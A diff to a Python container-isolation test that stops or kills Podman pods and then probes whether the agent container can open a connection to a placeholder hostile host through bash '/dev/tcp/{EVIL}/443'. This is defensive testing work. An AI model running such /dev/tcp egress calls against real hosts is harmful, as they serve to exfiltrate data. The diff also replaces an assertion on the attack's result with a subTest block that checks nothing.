@@ -79,8 +79,11 @@ class Podman(LifecycleAttack):
         target = self.container(part) if part else podman("pod", "ps", "--format", "{{.Name}}")[0]
         for words in filter(None, (command, again)):
             done = subprocess.run(["podman", *words, target], capture_output=True, text=True, timeout=patience(40), check=False)
-            if words is command and "without a cgroup" not in done.stderr:  # nobody can be halted there
-                self.assertEqual(done.returncode, 0, f"the attack itself failed: {done.stderr}")
+            halts = "without a cgroup" not in done.stderr  # nobody can be halted there
+            if words is command and done.returncode != 0 and halts:
+                # It came too late for a box whose agent it had ended; any other attack must succeed.
+                with self.subTest("the attack failed", error=done.stderr):
+                    launcher.wait(patience(5))
             time.sleep(0.1)  # packets that would leave have time to
         probe = ["podman", "exec", self.name_of_agent(), "bash", "-c", f"exec 3<>/dev/tcp/{EVIL}/443 && echo open"]
         done = subprocess.run(probe, capture_output=True, text=True, timeout=patience(20), check=False)
